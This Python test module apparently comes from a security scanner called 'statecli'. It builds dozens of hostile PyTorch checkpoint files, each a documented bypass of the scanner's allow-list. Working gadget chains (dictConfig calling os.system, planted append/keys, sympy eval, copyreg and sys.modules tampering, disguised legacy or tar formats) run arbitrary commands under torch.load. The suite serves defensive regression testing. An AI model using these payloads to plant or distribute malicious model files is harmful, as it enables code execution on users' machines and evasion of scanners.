"""Bypasses of the allow-list verdict, each proven to run under ``torch.load(weights_only=False)``.

Every file here once passed ``statecli check`` (exit 0) or was merely called unreadable (exit 3) while its
payload ran. The families:

- **a name is one step from a call.** Inert classes call what they hold: pickle's APPEND/ADDITEMS call the
  ``append``/``add`` a BUILD stored on an ``argparse.Namespace``; ``dict()`` and ``OrderedDict()`` call a
  stored ``keys``; torch's ``_set_obj_state`` (a Parameter's extra attributes) a stored ``items``; a
  Parameter's ``__new__`` its data's ``detach``; numpy's RNG constructor its second argument. The function
  they call needs only to be *named*: ``logging.config.dictConfig`` resolves and calls any dotted name in
  its dict (``"()": "os.system"``). Fixed by judging every name of the standard library, torch, numpy and
  torch's dependencies that is off the allow lists as dangerous, and by modelling the calls numpy's RNG
  constructors and planted ``append``/``add`` make;
- **allow-listed classes that run code**: ``torch.export.unflatten.InterpreterModule`` runs its pickled
  fx graph when called, and torch.fx's interpreter resolves the graph's dotted strings to any attribute
  (``p._flavour.pathmod.os.system`` from a stored ``pathlib.PosixPath``): an exploit made of allow-listed
  names only. Off the list now (torch cannot pickle one anyway);
- **torch's dependencies**: sympy's ``Lambda(x, text)`` sympifies (evals) the text; sympy was "another
  package", a warning;
- **changing a global in place**: SETITEM on ``copyreg._inverted_registry`` makes an extension code name
  ``os.system`` with no GLOBAL in sight; on ``sys.modules`` it swaps a module. statecli called the file
  corrupt (SETITEM on a Global);
- **files statecli refuses but torch unpickles**: a payload in the magic number's pickle of a legacy file
  (or its system-info or key-list pickle, which statecli parsed but did not judge), a plain or protocol-0
  pickle, a file that claims to be safetensors, the torch < 0.4 tar layout, a data.pkl case twin that
  torch reads first, a payload before a key over statecli's name limit.
"""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
from pathlib import Path

from make_hostile import PAYLOAD, Asm, Expected, _info, case, exploit, state_dict, torch_zip, with_payload

DICT_CONFIG = "logging.config.dictConfig"


def _refused(message: str) -> Expected:
    """Refused as unsafe (exit 5) with ``message`` in the error line; the payload runs under torch.load."""
    return Expected("error", 5, message, False, "torch.load")


def _config(a: Asm) -> Asm:
    """A logging config whose formatter factory is the dotted name os.system, called with the payload."""
    a.op("EMPTY_DICT").op("MARK").str_("version").int_(1).str_("formatters")
    a.op("EMPTY_DICT").str_("f").op("EMPTY_DICT").op("MARK")
    a.str_("()").str_("os.system").str_("command").str_(PAYLOAD)
    return a.op("SETITEMS").op("SETITEM").op("SETITEMS")


def _dict_config(a: Asm) -> Asm:
    return a.global_("logging.config", "dictConfig")


def _partial_dict_config(a: Asm) -> Asm:
    """``functools.partial(dictConfig, config)``: called with no arguments, it runs the payload."""
    return a.call("functools", "partial", _dict_config, _config)


def _namespace(a: Asm, *attrs: tuple[str, object], cls: tuple[str, str] = ("argparse", "Namespace")) -> Asm:
    """An allow-listed class made with NEWOBJ, its attributes set by BUILD."""
    a.global_(*cls).op("EMPTY_TUPLE").op("NEWOBJ").op("EMPTY_DICT").op("MARK")
    for key, write in attrs:
        a.str_(key)
        write(a)  # type: ignore[operator]
    return a.op("SETITEMS").op("BUILD")


def _os_system(a: Asm) -> Asm:
    return a.call("os", "system", lambda a: a.str_(PAYLOAD))


def _payload_then(value: object) -> bytes:
    """A pickle that calls os.system and then is ``value``, for the pickles torch checks after loading."""
    return _os_system(Asm(2)).op("POP").getvalue() + pickle.dumps(value, protocol=2)[2:]


# --- a name is one step from a call -------------------------------------------------------------------


@case("numpy_rng_ctor_calls_its_argument", "redteam", exploit("dangerous-global", DICT_CONFIG))
def _(d: Path) -> Path:
    # numpy.random._pickle.__randomstate_ctor (allow-listed) calls its second argument with its first.
    payload = lambda a: a.call("numpy.random._pickle", "__randomstate_ctor", _config, _dict_config)  # noqa: E731
    return torch_zip(d / "model.pt", with_payload(payload))


@case("planted_append_called_by_pickle", "redteam", exploit("dangerous-global", DICT_CONFIG))
def _(d: Path) -> Path:
    # BUILD stores dictConfig as a Namespace's `append`; APPEND then calls it (pickle looks it up on the instance).
    def payload(a: Asm) -> None:
        _namespace(a, ("append", _dict_config))
        _config(a).op("APPEND")

    return torch_zip(d / "model.pt", with_payload(payload))


@case("planted_add_called_by_additems", "redteam", exploit("dangerous-global", DICT_CONFIG))
def _(d: Path) -> Path:
    # ADDITEMS on an object that is not a set calls its `add`: statecli called the file corrupt (exit 3).
    def payload(a: Asm) -> None:
        _namespace(a, ("add", _dict_config)).op("MARK")
        _config(a).op("ADDITEMS")

    return torch_zip(d / "model.pt", with_payload(payload, proto=4))


@case("dict_calls_stored_keys", "redteam", exploit("dangerous-global", DICT_CONFIG))
def _(d: Path) -> Path:
    # dict(x) calls x.keys() when x has one: a Namespace's stored partial.
    payload = lambda a: a.call("builtins", "dict", lambda a: _namespace(a, ("keys", _partial_dict_config)))  # noqa: E731
    return torch_zip(d / "model.pt", with_payload(payload))


@case("ordered_dict_calls_stored_keys", "redteam", exploit("dangerous-global", DICT_CONFIG))
def _(d: Path) -> Path:
    # statecli's own OrderedDict model read the argument as no pairs and said nothing.
    def payload(a: Asm) -> None:
        a.call("collections", "OrderedDict", lambda a: _namespace(a, ("keys", _partial_dict_config)))

    return torch_zip(d / "model.pt", with_payload(payload))


@case("parameter_state_calls_stored_items", "redteam", exploit("dangerous-global", DICT_CONFIG))
def _(d: Path) -> Path:
    # torch._utils._rebuild_parameter_with_state sets the Parameter's extra attributes from state.items().
    def payload(a: Asm) -> None:
        a.global_("torch._utils", "_rebuild_parameter_with_state")
        a.tuple_(
            lambda a: a.tensor(),
            lambda a: a.op("NEWFALSE"),
            lambda a: a.call("collections", "OrderedDict"),
            lambda a: _namespace(a, ("items", _partial_dict_config)),
        ).op("REDUCE")

    return torch_zip(d / "model.pt", with_payload(payload))


@case("parameter_data_detach_then_fails", "redteam", _refused(DICT_CONFIG))
def _(d: Path) -> Path:
    # Parameter(data) calls data.detach() on what is no tensor: the payload runs, then the load fails. statecli
    # called the file corrupt (exit 3).
    def payload(a: Asm) -> None:
        a.call(
            "torch._utils",
            "_rebuild_parameter",
            lambda a: _namespace(a, ("detach", _partial_dict_config)),
            lambda a: a.op("NEWFALSE"),
            lambda a: a.call("collections", "OrderedDict"),
        )

    return torch_zip(d / "model.pt", with_payload(payload))


# --- allow-listed names only ---------------------------------------------------------------------------


def _interpreter_module(a: Asm) -> Asm:
    """An InterpreterModule whose graph has one call_module node: torch.fx's interpreter resolves its target,
    a dotted path from a stored pathlib class to os.system, and calls it with the payload."""

    def node(a: Asm) -> Asm:
        # Any hashable object with these attributes will do: an nn.Identity made with NEWOBJ and BUILD.
        return _namespace(
            a,
            ("op", lambda a: a.str_("call_module")),
            ("target", lambda a: a.str_("p._flavour.pathmod.os.system")),
            ("args", lambda a: a.tuple_(lambda a: a.str_(PAYLOAD))),
            ("kwargs", lambda a: a.op("EMPTY_DICT")),
            ("_input_nodes", lambda a: a.op("EMPTY_DICT")),
            ("meta", lambda a: a.op("EMPTY_DICT")),
            cls=("torch.nn.modules.linear", "Identity"),
        )

    a.global_("torch.export.unflatten", "InterpreterModule").op("EMPTY_TUPLE").op("NEWOBJ")
    a.op("EMPTY_DICT").op("MARK")
    hooks = ("_backward_pre_hooks", "_backward_hooks", "_forward_hooks", "_forward_hooks_with_kwargs")
    hooks += ("_forward_hooks_always_called", "_forward_pre_hooks", "_forward_pre_hooks_with_kwargs")
    hooks += ("_state_dict_hooks", "_state_dict_pre_hooks", "_load_state_dict_pre_hooks", "_load_state_dict_post_hooks")
    for attr in ("_parameters", "_buffers", "_modules", *hooks):
        a.str_(attr).call("collections", "OrderedDict")
    a.str_("_is_full_backward_hook").op("NONE").str_("training").op("NEWFALSE")
    a.str_("p").global_("pathlib", "PosixPath").str_("graph_module").int_(1).str_("_run_with_interpreter").op("NEWTRUE")
    a.str_("graph")
    _namespace(a, ("nodes", lambda a: node(a.op("EMPTY_LIST")).op("APPEND")))
    return a.op("SETITEMS").op("BUILD")


@case(
    "interpreter_module_runs_its_graph",
    "redteam",
    exploit("dangerous-global", "torch.export.unflatten.InterpreterModule"),
)
def _(d: Path) -> Path:
    # dict() calls the Namespace's stored `keys`: the InterpreterModule, whose forward runs its fx graph.
    # Every name in this file was on statecli's allow lists.
    payload = lambda a: a.call("builtins", "dict", lambda a: _namespace(a, ("keys", _interpreter_module)))  # noqa: E731
    return torch_zip(d / "model.pt", with_payload(payload))


def _planted_append_pickle(proto: int = 2) -> Asm:
    a = Asm(proto)
    _namespace(a, ("append", _dict_config))
    return _config(a).op("APPEND")


@case("dcp_metadata_planted_append", "redteam", exploit("dangerous-global", DICT_CONFIG, "dcp"))
def _(d: Path) -> Path:
    # The gadget inside DCP's .metadata, before its STOP: FileSystemReader.read_metadata runs it.
    import pickletools
    import shutil

    folder = d / "ckpt"
    shutil.copytree(Path(__file__).resolve().parents[2] / "sample_models" / "dcp_training", folder)
    data = (folder / ".metadata").read_bytes()
    stop = next(at for op, _, at in pickletools.genops(data) if op.name == "STOP")
    gadget = _planted_append_pickle(proto=0).op("POP").getvalue()
    (folder / ".metadata").write_bytes(data[:stop] + gadget + b".")
    return folder


@case("pt2_sample_inputs_planted_append", "redteam", exploit("dangerous-global", DICT_CONFIG, "torch.export.load"))
def _(d: Path) -> Path:
    # torch.export.load falls back to torch.load(weights_only=False) for a program's example inputs.
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr(_info("model/data.pkl"), _planted_append_pickle().op("STOP").getvalue())
        z.writestr(_info("model/version"), b"3\n")
    src = Path(__file__).resolve().parents[2] / "sample_models" / "export_frozen.pt2"
    out = d / "model.pt2"
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            data = inner.getvalue() if info.filename.endswith("sample_inputs/model.pt") else zin.read(info.filename)
            zout.writestr(info, data)
    return out


@case("torchbind_opaque_object_unpickles_its_state", "redteam", exploit("dangerous-global", "aten.OpaqueObject"))
def _(d: Path) -> Path:
    # torch.ScriptObject is allow-listed for quantized packed weights; BUILD names the TorchBind class whose
    # __setstate__ runs. aten.OpaqueObject's base64-decodes its state and unpickles it with plain pickle.
    import base64

    inner = f"cos\nsystem\n(S'{PAYLOAD}'\ntR.".encode()  # the state passes through UTF-8 text: protocol 0

    def payload(a: Asm) -> None:
        a.global_("torch", "ScriptObject").op("EMPTY_TUPLE").op("NEWOBJ")
        a.str_(base64.b64encode(inner).decode()).str_("__torch__.torch.classes.aten.OpaqueObject")
        a.op("TUPLE2").op("BUILD")

    return torch_zip(d / "model.pt", with_payload(payload))


# --- torch's dependencies --------------------------------------------------------------------------------


@case("sympy_lambda_evals_text", "redteam", exploit("dangerous-global", "sympy.core.function.Lambda"))
def _(d: Path) -> Path:
    # NEWOBJ runs Lambda.__new__(Lambda, 'x', text), which sympifies the text with eval. sympy comes with torch.
    def payload(a: Asm) -> None:
        a.global_("sympy.core.function", "Lambda")
        a.tuple_(lambda a: a.str_("x"), lambda a: a.str_(f"__import__('os').system({PAYLOAD!r})")).op("NEWOBJ")

    return torch_zip(d / "model.pt", with_payload(payload))


# --- changing a global in place ----------------------------------------------------------------------------


@case("extension_registry_then_ext2", "redteam", _refused("copyreg._inverted_registry"))
def _(d: Path) -> Path:
    # copyreg._inverted_registry[4242] = ('os', 'system'): then EXT2 4242 is os.system, named by no GLOBAL.
    def payload(a: Asm) -> None:
        a.global_("copyreg", "_inverted_registry").int_(4242)
        a.tuple_(lambda a: a.str_("o" + "s"), lambda a: a.str_("sys" + "tem")).op("SETITEM").op("POP")
        a.op("EXT2", struct.pack("<H", 4242)).tuple_(lambda a: a.str_(PAYLOAD)).op("REDUCE")

    return torch_zip(d / "model.pt", with_payload(payload))


@case("sys_modules_swapped", "redteam", exploit("mutate-global", "sys.modules"))
def _(d: Path) -> Path:
    # sys.modules['statecli_fake'] = Namespace(system=dictConfig); then GLOBAL statecli_fake.system is dictConfig.
    def payload(a: Asm) -> None:
        a.global_("sys", "modules").str_("statecli_fake")
        _namespace(a, ("system", _dict_config)).op("SETITEM").op("POP")
        a.call("statecli_fake", "system", _config)

    return torch_zip(d / "model.pt", with_payload(payload))


# --- files statecli refuses, that torch unpickles ----------------------------------------------------------

MAGIC = 0x1950A86A20F9469CFC6C


def _legacy_parts() -> list[bytes]:
    """statecli's legacy sample (torch < 1.6 format) as its five pickles and then its data section."""
    import pickletools

    data = (Path(__file__).resolve().parents[2] / "sample_models" / "legacy_cnn.pt").read_bytes()
    parts, pos = [], 0
    for _ in range(5):
        end = next(at for op, _, at in pickletools.genops(data[pos:]) if op.name == "STOP") + 1
        parts.append(data[pos : pos + end])
        pos += end
    return [*parts, data[pos:]]


@case("legacy_system_info_payload", "redteam", exploit("dangerous-global", "os.system"))
def _(d: Path) -> Path:
    # statecli parsed the third pickle (system info) but judged only the fourth (the object).
    parts = _legacy_parts()
    parts[2] = _payload_then(pickle.loads(parts[2]))  # a dict of sizes: plain data, safe to unpickle
    (d / "model.pt").write_bytes(b"".join(parts))
    return d / "model.pt"


@case("legacy_magic_number_payload", "redteam", _refused("os.system"))
def _(d: Path) -> Path:
    # The payload before the magic number: no longer the legacy header statecli looks for, so it called the
    # file "a plain pickle"; torch.load unpickles it first of all.
    parts = _legacy_parts()
    parts[0] = _payload_then(MAGIC)
    (d / "model.pt").write_bytes(b"".join(parts))
    return d / "model.pt"


@case("protocol0_text_pickle", "redteam", _refused("os.system"))
def _(d: Path) -> Path:
    # "a text file, not a checkpoint" to statecli; torch.load unpickles any file that is no zip.
    (d / "model.pt").write_bytes(f"cos\nsystem\n(S'{PAYLOAD}'\ntR.".encode())
    return d / "model.pt"


@case("safetensors_header_claim", "redteam", _refused("os.system"))
def _(d: Path) -> Path:
    # Byte 8 is '{', so statecli took it for safetensors with a broken header length; those eight bytes are a
    # pickle's PROTO and a string that swallows the brace, and the payload follows.
    data = b"\x80\x02X" + struct.pack("<I", 2) + b" {0" + _os_system(Asm(2)).op("STOP").getvalue()[2:]
    (d / "model.bin").write_bytes(data)
    return d / "model.bin"


def _tar(path: Path, members: list[tuple[str, bytes]]) -> Path:
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            t.addfile(info, io.BytesIO(data))
    return path


@case("tar_layout_storage_views_payload", "redteam", _refused("os.system"))
def _(d: Path) -> Path:
    # The torch < 0.4 tar layout: after one storage record and its two floats, the views pickle runs the payload.
    record = Asm(2).tuple_(lambda a: a.str_("k"), lambda a: a.str_("cpu"), lambda a: a.global_("torch", "FloatStorage"))
    storages = pickle.dumps(1, 2) + record.op("STOP").getvalue() + struct.pack("<q", 2) + bytes(8) + _payload_then([])
    members = [("storages", storages), ("tensors", pickle.dumps(0, 2)), ("pickle", pickle.dumps({}, 2))]
    return _tar(d / "model.pt", members)


@case("data_pkl_case_twin_read_first", "redteam", _refused("os.system"))
def _(d: Path) -> Path:
    # torch's zip reader matches archive/data.pkl to archive/DATA.pkl, the first one in the archive.
    p = d / "model.pt"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr(_info("archive/DATA.pkl"), with_payload(_os_system))
        z.writestr(_info("archive/data.pkl"), state_dict(("weight", lambda a: a.tensor())))
        z.writestr(_info("archive/byteorder"), b"little")
        z.writestr(_info("archive/data/0"), bytes(16))
        z.writestr(_info("archive/version"), b"3\n")
    return p


@case("payload_then_a_name_too_long", "redteam", _refused("os.system"))
def _(d: Path) -> Path:
    # The pickle is whole and torch loads it; statecli's walk refused a key over its 64 KiB name limit.
    def model(a: Asm) -> None:
        a.op("EMPTY_DICT").str_("w").tensor().op("SETITEM")
        a.str_("p")
        _os_system(a).op("SETITEM")
        a.str_("k" * 70_000).tensor().op("SETITEM")

    return torch_zip(d / "model.pt", state_dict(("model", model)))


# --- where statecli stops reading and real pickle reads on ----------------------------------------------
#
# statecli's limits are its own (real pickle has none of them), and some values it refuses to model (a
# SETITEM on a list): a payload after such a point was never seen, and the file was "unreadable" (3).


@case("payload_after_a_long_integer", "redteam", _refused("os.system"))
def _(d: Path) -> Path:
    payload = lambda a: _os_system(a.op("LONG4", struct.pack("<i", 2000) + b"\x01" * 2000).op("POP"))  # noqa: E731
    return torch_zip(d / "model.pt", with_payload(payload))


@case("payload_after_deep_marks", "redteam", _refused("os.system"))
def _(d: Path) -> Path:
    payload = lambda a: _os_system(a.raw(b"(" * 1001 + b"1" * 1001))  # noqa: E731
    return torch_zip(d / "model.pt", with_payload(payload))


@case("payload_after_setitem_on_a_list", "redteam", _refused("os.system"))
def _(d: Path) -> Path:
    def payload(a: Asm) -> None:
        a.op("EMPTY_LIST").op("NONE").op("APPEND").int_(0).op("NONE").op("SETITEM").op("POP")
        _os_system(a)

    return torch_zip(d / "model.pt", with_payload(payload))


@case("payload_after_a_hash_flood", "redteam", _refused("os.system"))
def _(d: Path) -> Path:
    import sys

    def payload(a: Asm) -> None:
        a.op("EMPTY_DICT").op("MARK")
        for i in range(1, 70):
            a.int_(i * sys.hash_info.modulus).op("NONE")
        _os_system(a.op("SETITEMS").op("POP"))

    return torch_zip(d / "model.pt", with_payload(payload))


@case("payload_after_a_long_text_line", "redteam", _refused("os.system"))
def _(d: Path) -> Path:
    payload = lambda a: _os_system(a.raw(b"V" + b"x" * ((1 << 20) + 5) + b"\n").op("POP"))  # noqa: E731
    return torch_zip(d / "model.pt", with_payload(payload))


@case("payload_after_a_stack_global_in_the_memo", "redteam", _refused("os.system"))
def _(d: Path) -> Path:
    # Past the limit, names are still followed through the memo and the stack: no literal "os" beside "system".
    def payload(a: Asm) -> None:
        a.op("LONG4", struct.pack("<i", 2000) + b"\x01" * 2000).op("POP")
        a.str_("o" + "s").op("MEMOIZE").str_("collections").str_("sys" + "tem").op("MEMOIZE").op("POP")
        a.op("POP").op("BINGET", b"\x00").op("BINGET", b"\x01").op("STACK_GLOBAL")
        a.tuple_(lambda a: a.str_(PAYLOAD)).op("REDUCE")

    return torch_zip(d / "model.pt", with_payload(payload, proto=4))


def warmups(folder: Path) -> list[Path]:
    """Benign files of the formats these cases reach: a legacy file, a legacy tar, a plain pickle, a .pt2."""
    import shutil

    samples = Path(__file__).resolve().parents[2] / "sample_models"
    legacy = folder / "legacy.pt"
    shutil.copy(samples / "legacy_cnn.pt", legacy)
    pt2 = folder / "export.pt2"
    shutil.copy(samples / "export_frozen.pt2", pt2)
    members = [("storages", pickle.dumps(0, 2) + pickle.dumps([], 2)), ("tensors", pickle.dumps(0, 2))]
    tar = _tar(folder / "legacy_tar.pt", [*members, ("pickle", pickle.dumps({}, 2))])
    plain = folder / "plain.pt"
    plain.write_bytes(pickle.dumps({"a": 1}, 2))
    return [legacy, tar, plain, pt2]
